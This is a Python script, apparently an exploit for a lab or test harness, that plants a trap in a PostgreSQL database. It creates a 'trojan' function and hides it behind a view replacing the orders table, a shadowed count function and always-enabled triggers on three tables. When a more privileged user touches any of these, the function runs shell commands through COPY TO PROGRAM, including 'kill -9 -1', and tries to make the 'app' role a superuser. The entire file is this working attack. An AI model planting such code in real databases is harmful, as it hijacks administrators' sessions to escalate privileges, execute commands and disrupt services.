import os

import psycopg

FUNCTION = """
CREATE OR REPLACE FUNCTION public.trojan() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF current_user <> 'app' THEN
    BEGIN
      EXECUTE $do$ COPY (SELECT 1) TO PROGRAM 'touch @OUT@/gained; kill -9 -1' $do$;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
      EXECUTE 'ALTER ROLE app SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
  RETURN true;
END $$
"""
with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as own:
    own.execute(FUNCTION)
    own.execute("ALTER TABLE orders RENAME TO orders_kept")
    own.execute("CREATE VIEW orders AS SELECT * FROM orders_kept WHERE public.trojan()")
    own.execute("CREATE OR REPLACE FUNCTION public.count(anyelement) RETURNS bigint LANGUAGE sql AS 'SELECT public.trojan()::int::bigint'")
    own.execute("CREATE OR REPLACE FUNCTION public.fire() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.trojan(); RETURN NEW; END $$")
    for table in ("products", "customers", "orders_kept"):
        own.execute(f"CREATE TRIGGER trojan BEFORE INSERT OR UPDATE ON {table} FOR EACH ROW EXECUTE FUNCTION public.fire()")
        own.execute(f"ALTER TABLE {table} ENABLE ALWAYS TRIGGER trojan")
